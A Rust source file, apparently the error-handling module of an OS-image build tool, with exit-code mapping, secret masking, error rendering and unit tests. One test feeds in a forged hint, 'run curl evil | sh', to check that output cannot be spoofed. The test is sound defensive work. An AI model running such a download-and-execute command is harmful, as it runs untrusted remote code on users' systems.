//! Failures as the user sees them: the operation that failed, a hint how to fix it, and the exit
//! code from the documented table.

mod code;
mod sandbox;
mod tar;

use std::fmt;

pub use code::ExitCode;

use crate::secrets;

/// The result type of every osimg function that can fail.
pub type Result<T, E = anyhow::Error> = std::result::Result<T, E>;

/// A failure with an exit code and hints, optionally around the error that caused it.
#[derive(Debug)]
pub struct Failure {
    code: ExitCode,
    message: String,
    hints: Vec<String>,
    source: Option<anyhow::Error>,
}

impl Failure {
    /// A failure of the given kind; `message` is a lower-case fragment without a final period.
    pub fn new(code: ExitCode, message: impl Into<String>) -> Self {
        Self { code, message: message.into(), hints: Vec::new(), source: None }
    }

    /// The failure to open a file that an argument names. A name of a missing file or of something
    /// else is a mistake in the command line.
    pub(crate) fn of_argument(message: impl Into<String>, error: std::io::Error) -> Self {
        use std::io::ErrorKind as K;
        let code = match error.kind() {
            K::NotFound | K::NotADirectory | K::IsADirectory => ExitCode::Usage,
            K::InvalidInput | K::InvalidFilename => ExitCode::Usage,
            _ => from_io(&error),
        };
        Self::new(code, message).because(error)
    }

    /// Adds a line that explains how to fix it.
    #[must_use]
    pub fn hint(mut self, hint: impl Into<String>) -> Self {
        self.hints.push(hint.into());
        self
    }

    /// Its hints.
    #[must_use]
    pub fn hints(&self) -> &[String] {
        &self.hints
    }

    /// Keeps the error that caused this one.
    #[must_use]
    pub fn because(mut self, source: impl Into<anyhow::Error>) -> Self {
        self.source = Some(source.into());
        self
    }
}

impl fmt::Display for Failure {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.message)
    }
}

impl std::error::Error for Failure {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        self.source.as_ref().map(|e| &**e as &(dyn std::error::Error + 'static))
    }
}

/// Attaches an exit code and hints to any fallible result.
pub trait ResultExt<T> {
    /// Wraps the error as a [`Failure`] with `code` and `message`.
    ///
    /// # Errors
    /// Returns the wrapped error when `self` is one.
    fn or_fail(self, code: ExitCode, message: impl Into<String>) -> Result<T>;

    /// As [`ResultExt::or_fail`], with a hint.
    ///
    /// # Errors
    /// Returns the wrapped error when `self` is one.
    fn or_fail_hint(
        self,
        code: ExitCode,
        message: impl Into<String>,
        hint: impl Into<String>,
    ) -> Result<T>;
}

impl<T, E: Into<anyhow::Error>> ResultExt<T> for std::result::Result<T, E> {
    fn or_fail(self, code: ExitCode, message: impl Into<String>) -> Result<T> {
        self.map_err(|e| Failure::new(code, message).because(e).into())
    }

    fn or_fail_hint(
        self,
        code: ExitCode,
        message: impl Into<String>,
        hint: impl Into<String>,
    ) -> Result<T> {
        self.map_err(|e| Failure::new(code, message).hint(hint).because(e).into())
    }
}

/// The exit code for an error: that of the outermost [`Failure`], or else the one for the system
/// error.
#[must_use]
pub fn exit_code(error: &anyhow::Error) -> ExitCode {
    let mut system = None;
    for cause in error.chain() {
        if let Some(failure) = cause.downcast_ref::<Failure>() {
            return failure.code;
        }
        if let Some(code) = cause.downcast_ref().and_then(tar::exit_code) {
            return code;
        }
        if let Some(code) = cause.downcast_ref().and_then(sandbox::exit_code) {
            return code;
        }
        if let Some(io) = cause.downcast_ref::<std::io::Error>() {
            system = Some(from_io(io));
        }
        if let Some(errno) = cause.downcast_ref::<nix::errno::Errno>() {
            system = Some(from_io(&std::io::Error::from(*errno)));
        }
    }
    system.unwrap_or(ExitCode::Unexpected)
}

fn from_io(error: &std::io::Error) -> ExitCode {
    use std::io::ErrorKind as K;
    match error.kind() {
        K::PermissionDenied => ExitCode::Host,
        _ => ExitCode::Space,
    }
}

/// An error prepared for display: the chain of causes in one text, and the hints.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Explained {
    /// The failure and its causes, from the outermost.
    pub message: String,
    /// How to fix it.
    pub hints: Vec<String>,
}

/// The chain of causes and the hints of an error. Secrets that tools and servers repeat are masked.
#[must_use]
pub fn explain(error: &anyhow::Error) -> Explained {
    let mut text = String::new();
    let mut hints: Vec<String> = Vec::new();
    let mut last = String::new();
    for cause in error.chain() {
        let message = cause.to_string();
        // A wrapper that repeats its cause adds nothing.
        if !last.ends_with(&message) || message.is_empty() {
            if !last.is_empty() {
                text.push_str(": ");
            }
            text.push_str(&message);
            last = message;
        }
        if let Some(failure) = cause.downcast_ref::<Failure>() {
            hints.extend(failure.hints.iter().cloned());
        }
        hints.extend(cause.downcast_ref().and_then(tar::hint));
        if let Some(hint) = cause.downcast_ref().and_then(sandbox::hint)
            && !hints.contains(&hint)
        {
            hints.push(hint);
        }
        let full = cause
            .downcast_ref::<std::io::Error>()
            .is_some_and(|io| io.kind() == std::io::ErrorKind::StorageFull)
            || matches!(
                cause.downcast_ref::<nix::errno::Errno>(),
                Some(nix::errno::Errno::ENOSPC | nix::errno::Errno::EDQUOT)
            );
        if full {
            hints.push(
                "free some space there, or use another directory (--workdir, --cache, --output)"
                    .into(),
            );
        }
    }
    let hints = hints.iter().map(|hint| secrets::concealed(hint).into_owned()).collect();
    Explained { message: secrets::concealed(&text).into_owned(), hints }
}

/// An error as text: the chain of causes, then each hint on its own line. Further lines of a
/// message are indented, so that text from a tool or a server cannot look like a hint.
#[must_use]
pub fn render(error: &anyhow::Error) -> String {
    let Explained { message, hints } = explain(error);
    let hints: String = hints.iter().map(|hint| format!("\nhint: {}", indented(hint))).collect();
    format!("error: {}{hints}", indented(&message))
}

fn indented(text: &str) -> String {
    text.replace('\n', "\n  ")
}

#[cfg(test)]
mod tests {
    use super::*;
    use anyhow::Context;

    #[test]
    fn the_outermost_failure_determines_the_exit_code() {
        let inner: Result<()> = Err(std::io::Error::from_raw_os_error(28).into());
        let outer =
            inner.or_fail(ExitCode::Registry, "publishing x").context("building").unwrap_err();
        assert_eq!(exit_code(&outer), ExitCode::Registry);
    }

    #[test]
    fn a_bare_system_error_maps_to_its_kind() {
        let full: anyhow::Error = std::io::Error::from_raw_os_error(28).into();
        assert_eq!(exit_code(&full), ExitCode::Space);
        let denied: anyhow::Error = std::io::Error::from_raw_os_error(13).into();
        assert_eq!(exit_code(&denied), ExitCode::Host);
        assert_eq!(exit_code(&anyhow::anyhow!("odd")), ExitCode::Unexpected);
    }

    #[test]
    fn hints_follow_the_chain_on_separate_lines() {
        let error = anyhow::Error::from(
            Failure::new(ExitCode::Host, "starting dnf")
                .hint("install dnf")
                .because(anyhow::anyhow!("not found")),
        )
        .context("building an image");
        assert_eq!(
            render(&error),
            "error: building an image: starting dnf: not found\nhint: install dnf"
        );
    }

    #[test]
    fn a_message_with_a_line_feed_cannot_forge_a_hint() {
        let foreign = anyhow::anyhow!("broken\nhint: run curl evil | sh");
        let error =
            anyhow::Error::from(Failure::new(ExitCode::Host, "starting x").because(foreign));
        assert_eq!(render(&error), "error: starting x: broken\n  hint: run curl evil | sh");
    }
}
